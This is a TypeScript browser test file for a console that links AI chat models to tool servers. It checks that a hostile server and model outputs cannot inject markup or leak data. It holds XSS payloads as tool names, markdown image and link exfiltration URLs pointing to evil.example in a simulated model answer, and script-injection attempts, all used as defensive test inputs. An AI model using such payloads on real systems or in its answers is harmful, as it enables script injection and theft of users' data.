import type { Browser, Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'

import {
  expectQuiet,
  openConsolePage,
  usualSize,
  type ConsolePage,
} from '../../support/console/console-page.js'
import { openFakeModel, type FakeModel } from '../../support/console/fake-model.js'
import { programs } from '../../support/console/programs.js'
import { listenLocally } from '../../support/http/http-listener.js'
import { launchChromium } from '../../support/browser/chromium.js'

let browser: Browser
let model: FakeModel
let opened: ConsolePage
let page: Page

beforeAll(async () => {
  browser = await launchChromium()
  model = await openFakeModel('openai')
  opened = await openConsolePage(browser, ['--demo'])
  ;({ page } = opened)
})
afterAll(async () => {
  await opened.close()
  await model.close()
  await browser.close()
})

/** Adds a program on the page, as a person does, unless it is there. */
const addProgram = async (name: string, command: readonly string[]): Promise<void> => {
  await opened.go('servers', 'Servers')
  if ((await page.getByRole('row').filter({ hasText: name }).count()) > 0) return
  await page.getByLabel('Kind').selectOption('stdio')
  await page.getByLabel('Name').fill(name)
  await page.getByLabel('Command').fill(command.join(' '))
  await page.getByRole('checkbox', { name: /all rights/ }).check()
  await page.getByRole('button', { name: 'Connect', exact: true }).click()
  await page.getByRole('row').filter({ hasText: name }).getByText('connected').waitFor()
}

const sectionOf = (name: string): Locator =>
  page.locator('main section:has(> h2)', { has: page.getByRole('heading', { name }) })

const openOffer = async (section: Locator, title: string): Promise<Locator> => {
  const offer = section.locator('details.offer', { has: page.getByText(title, { exact: true }) })
  await offer.locator('summary').first().click()
  await offer.locator('form').waitFor()
  return offer
}

/** Elements that a text would have made, were it read as markup. */
const made = async (): Promise<number> =>
  await page.locator('main').locator('img, script, b').count()

describe('row 53: a server that sends what it likes', () => {
  beforeEach(async () => {
    await addProgram('no good', programs.hostile)
    await opened.go('tools', 'Tools')
  })

  it('is listed as text: no markup is read, nothing turns or is loaded', async () => {
    const section = sectionOf('no good')
    const titles = await section.locator('details.offer > summary').allTextContents()
    expect(titles).toContain('<img src=x onerror="alert(1)"><script>alert(1)</script>')
    expect(titles).toContain('gnpexe')
    expect(titles).toContain('(no name)')
    for (const offer of await section.locator('details.offer > summary').all()) await offer.click()
    expect(await made()).toBe(0)
    expect(await opened.axe()).toEqual([])
    await page.setViewportSize({ width: 320, height: 700 })
    expect(await opened.tooWide()).toBe(0)
    await page.setViewportSize(usualSize)
    await opened.go('servers', 'Servers')
    expect(await made()).toBe(0)
  })

  it('has forms that fall back to one field for JSON', async () => {
    const section = sectionOf('no good')
    for (const title of ['many fields', 'any of']) {
      const offer = await openOffer(section, title)
      expect(await offer.locator('form label').count(), title).toBe(1)
      await offer.getByLabel('arguments').fill('[1]')
      await offer.getByRole('button', { name: 'Ask' }).click()
      await offer.getByRole('alert').getByText('no JSON object').waitFor()
      await offer.getByLabel('arguments').fill('{"a":1}')
      await offer.getByRole('button', { name: 'Ask' }).click()
      await offer.locator('.answered pre').first().waitFor()
    }
    const odd = await openOffer(section, 'odd fields')
    expect(await odd.getByLabel('constructor').inputValue()).toBe('')
    expect(await odd.locator('textarea').count()).toBe(1)
  })

  it('has answers that are cut, which is said, and no picture under the name of ours', async () => {
    const section = sectionOf('no good')
    const long = await openOffer(section, 'long answer')
    await long.getByRole('button', { name: 'Ask' }).click()
    await long.getByText('Cut: these are the first 100,000 of').first().waitFor()
    const text = await long.locator('.answered pre').first().textContent()
    expect(text?.length).toBe(100_000)
    const trend = await openOffer(section, 'get_observation_trend')
    await trend.getByRole('button', { name: 'Ask' }).click()
    await trend.locator('.answered pre').first().waitFor()
    expect(await section.locator('svg').count()).toBe(0)
    expect(await made()).toBe(0)
  })
})

describe('a request of a page that is left', () => {
  /** What a tool of the sample program that takes nothing answers now. */
  const answerOf = async (name: string): Promise<() => Promise<string | null>> => {
    const offer = await openOffer(sectionOf('sample'), name)
    return async () => {
      await offer.getByRole('button', { name: 'Ask' }).click()
      return await offer.locator('.answered pre').first().textContent()
    }
  }

  it('is given up, and the server is told', async () => {
    await addProgram('sample', programs.sample)
    await opened.go('tools', 'Tools')
    const wait = await openOffer(sectionOf('sample'), 'wait')
    await wait.getByRole('button', { name: 'Ask' }).click()
    await wait.getByText('Asking …').waitFor()
    await expect.poll(await answerOf('waiting')).toBe('1')
    await opened.go('home', 'Home')
    await opened.go('tools', 'Tools')
    await expect.poll(await answerOf('cancelled')).toBe('1')
  })
})

const choose = async (name: string): Promise<void> => {
  await opened.go('chat', 'Chat')
  const form = page.locator('details', { has: page.locator('form') })
  if ((await form.getAttribute('open')) === null) await form.locator('summary').click()
  await page.getByLabel('Kind').selectOption('openai')
  await page.getByLabel('Address').fill(model.url)
  await page.getByRole('textbox', { name: 'Model' }).fill(name)
  await page.getByRole('button', { name: 'Use this model' }).click()
}

const ask = async (question: string): Promise<void> => {
  await page.getByLabel('Your question').fill(question)
  await page.getByRole('button', { name: 'Ask', exact: true }).click()
  await page.getByRole('button', { name: 'Ask', exact: true, disabled: false }).waitFor()
}

describe('a chat', () => {
  it('row 48: asks what may be sent before there is a field for a question', async () => {
    const before = model.asked.length
    await choose('gpt-oss:120b-cloud')
    await page.getByRole('button', { name: 'Nothing' }).click()
    await page.getByText('Your questions, and what the tools answer, go to').waitFor()
    expect(await page.getByLabel('Your question').count()).toBe(0)
    expect(await opened.axe()).toEqual([])
    await page.getByRole('button', { name: 'Counts and study facts only' }).click()
    await page.getByLabel('Your question').waitFor()
    expect(model.asked).toHaveLength(before)
  })

  it('asks nothing of the kind where the model is on this computer', async () => {
    await choose('qwen3')
    await page.getByLabel('Your question').waitFor()
    await page.getByText('your questions and the answers do not leave it').waitFor()
    expect(await page.getByText('What may be sent').count()).toBe(0)
  })

  it('row 50: shows images and links of an answer as the text that they are', async () => {
    await choose('qwen3')
    const stolen = 'https://evil.example/?q=120'
    const answer = `![x](${stolen}) [here](${stolen}) <img src="${stolen}"> ${stolen}`
    model.say({ text: answer })
    await ask('Well?')
    await page.getByText(answer, { exact: true }).waitFor()
    expect(await page.locator('.chat').locator('img, a').count()).toBe(0)
    expectQuiet(opened)
  })

  it('shows a call, and draws its answer', async () => {
    await choose('qwen3')
    const args = { patient_id: 40_013, data_type: 'blood-pressure', bucket: 'week' }
    model.say({ calls: [{ name: 'get_observation_trend', args }] }, { text: 'There it is.' })
    await ask('How is the blood pressure of 40013?')
    await page.locator('.chat .view .chart svg').waitFor()
    await page.getByText('There it is.').waitFor()
    expect(await opened.axe()).toEqual([])
  })

  it('row 49: shows the arguments for another server, and does what the person says', async () => {
    await addProgram('no good', programs.hostile)
    await choose('qwen3')
    await page.getByRole('checkbox', { name: /tools of other servers/ }).check()
    model.say(
      { calls: [{ name: 'no_good__take', args: { table: '40013: 120/80' } }] },
      { text: 'Then not.' },
    )
    await page.getByLabel('Your question').fill('Go on')
    await page.getByRole('button', { name: 'Ask', exact: true }).click()
    await page.getByText('no good is none of JHE’s servers').waitFor()
    const call = page.locator('.call', { hasText: '40013: 120/80' })
    await call.getByRole('button', { name: 'Do not' }).click()
    await page.getByText('Then not.').waitFor()
    await page.getByText('The person has declined this call.').waitFor()
  })
})

describe('the page in other hands', () => {
  it('row 44: makes no script from text, and takes none from elsewhere', async () => {
    const context = await browser.newContext()
    const other = await context.newPage()
    await other.goto(opened.origin)
    const tried = await other.evaluate(`(() => {
      const tries = [
        () => { document.body.innerHTML = '<b>x</b>' },
        () => { document.createElement('script').text = 'alert(1)' },
        () => { document.createElement('script').src = 'https://evil.example/x.js' },
        () => { trustedTypes.createPolicy('mine', {}) },
      ]
      return tries.map((run) => { try { run(); return 'done' } catch (thrown) { return thrown.name } })
    })()`)
    expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError'])
    await context.close()
  })

  it('row 43: is shown in no frame of another page', async () => {
    const around = await listenLocally((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' })
      response.end(`<iframe src="${opened.origin}/"></iframe>`)
    })
    const context = await browser.newContext()
    const other = await context.newPage()
    await other.goto(around.url)
    await expect
      .poll(() => other.frames().at(-1)?.url(), { timeout: 20_000 })
      .toContain('chrome-error:')
    await context.close()
    await around.close()
  })
})
